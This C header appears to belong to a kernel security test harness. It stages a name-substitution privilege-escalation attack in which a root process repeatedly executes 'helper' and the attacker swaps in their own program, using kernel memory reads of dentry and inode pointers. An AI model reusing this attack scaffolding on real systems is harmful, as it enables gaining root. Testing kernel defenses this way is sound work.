// SPDX-License-Identifier: GPL-2.0-only
/*
 * helper_program.h - the prize of the attacks on names: a program of root starts HELPER again and
 * again, by its name. The attacker has a program of his own, MINE. When root runs that, it says so
 * by its exit status.
 */
#pragma once
#include "attack.h"

#define HELPER "/jobs/helper"
#define MINE "/tmp/mine"
#define ROOT_RAN_IT 77

/* The attacker's program: the one that he runs himself, as somebody else starts it. */
static inline long make_own_program(void)
{
	const long from = call3(__NR_open, (long)"/init", O_RDONLY, 0);
	const long to = call3(__NR_open, (long)MINE, O_CREAT | O_WRONLY, 0755);

	call4(__NR_sendfile, to, from, 0, 1 << 20);
	call1(__NR_close, from);
	call1(__NR_close, to);
	return call3(__NR_open, (long)MINE, O_RDONLY, 0);
}

static bool control(void)
{
	return is_ordinary();
}

static inline uint64_t dentry_of(long file)
{
	return peek(file_struct(own_task(), (int)file) + member("file.path") +
		    member("path.dentry"));
}

static inline uint64_t inode_of(long file)
{
	return peek(file_struct(own_task(), (int)file) + member("file.inode"));
}

/* The same as "helper" in a directory of his, which this is. */
static inline uint64_t make_own_place(void)
{
	make_own_program();
	call2(__NR_mkdir, (long)"/tmp/place", 0755);
	call2(__NR_rename, (long)MINE, (long)"/tmp/place/helper");
	return dentry_of(call3(__NR_open, (long)"/tmp/place", O_RDONLY | O_DIRECTORY, 0));
}

/* Root's program has started its helper, from the first step to the last. */
static inline void wait_for_root(void)
{
	await_rounds(2);
}

/* In process 1's child, root. */
static inline void run_helper_at(long directory, const char *name)
{
	static const char *const arguments[] = { "helper", NULL }, *const environment[] = { NULL };
	long child;

	for (;;) {
		victim_round();
		child = fork_program();
		if (child == 0) {
			call5(__NR_execveat, directory, (long)name, (long)arguments,
			      (long)environment, 0);
			leave(1);
		}
		if (wait_program(child) >> 8 == ROOT_RAN_IT)
			say_result("WON");
		sleep_milliseconds(20);
	}
}

static inline void run_helper(const char *name)
{
	run_helper_at(AT_FDCWD, name);
}

/* A file that everybody may execute, and that is no program. */
static inline void make_helper(void)
{
	long file;

	call2(__NR_mkdir, (long)"/jobs", 0755);
	file = call3(__NR_open, (long)HELPER, O_CREAT | O_WRONLY, 0755);
	call3(__NR_write, file, (long)"nothing", 7);
	call1(__NR_close, file);
}
